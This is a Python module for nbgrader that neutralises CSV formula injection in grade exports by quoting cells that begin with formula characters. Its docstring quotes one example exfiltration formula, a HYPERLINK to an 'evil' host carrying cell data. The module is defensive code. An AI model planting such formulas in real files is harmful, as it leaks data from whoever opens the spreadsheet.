"""CSV files that a spreadsheet opens as data: no cell starts a formula.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula ("CSV injection"): a student id or a name in the
gradebook such as ``=HYPERLINK("http://evil/?"&A1)`` would run on the TA's machine when the
grade sheet is opened. ``cell`` prefixes such a text with ``'`` (shown as the text itself);
numbers stay numbers. Used by the class report's ``report.csv`` and by ``nbgrader export``
(``SafeCsvExportPlugin``, set in nbgrader_config.py), which also quotes cells properly (stock
nbgrader joins them with commas, so a name with a comma or a line break shifts the columns).
"""

from __future__ import annotations

import csv
import re

from nbgrader.api import Gradebook, MissingEntry
from nbgrader.plugins import CsvExportPlugin

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?\Z")


def cell(value):
    """``value`` as a safe CSV cell: a text that a spreadsheet would run gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.match(value):
        return "'" + value
    return value


def row(values) -> list:
    return [cell(v) for v in values]


class SafeCsvExportPlugin(CsvExportPlugin):
    """nbgrader's CSV export (same columns, same rows), written with the csv module and with
    every cell passed through ``cell``."""

    KEYS = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
            "raw_score", "late_submission_penalty", "score", "max_score"]

    def export(self, gradebook: Gradebook) -> None:
        dest = self.to or "grades.csv"
        students = {str(s) for s in self.student}
        assignments = {str(a) for a in self.assignment}
        self.log.info("Exporting grades to %s", dest)
        with open(dest, "w", newline="", encoding="utf-8") as f:
            writer = csv.writer(f)
            writer.writerow(self.KEYS)
            for assignment in gradebook.assignments:
                if assignments and assignment.name not in assignments:
                    continue
                for student in gradebook.students:
                    if students and student.id not in students:
                        continue
                    score = {"assignment": assignment.name, "duedate": assignment.duedate, "student_id": student.id,
                             "last_name": student.last_name, "first_name": student.first_name,
                             "email": student.email, "max_score": assignment.max_score}
                    try:
                        sub = gradebook.find_submission(assignment.name, student.id)
                    except MissingEntry:
                        score.update(timestamp="", raw_score=0.0, late_submission_penalty=0.0, score=0.0)
                    else:
                        penalty = sub.late_submission_penalty
                        score.update(timestamp=sub.timestamp, raw_score=sub.score, late_submission_penalty=penalty,
                                     score=max(0.0, sub.score - penalty))
                    writer.writerow(row("" if score[k] is None else str(score[k]) for k in self.KEYS))
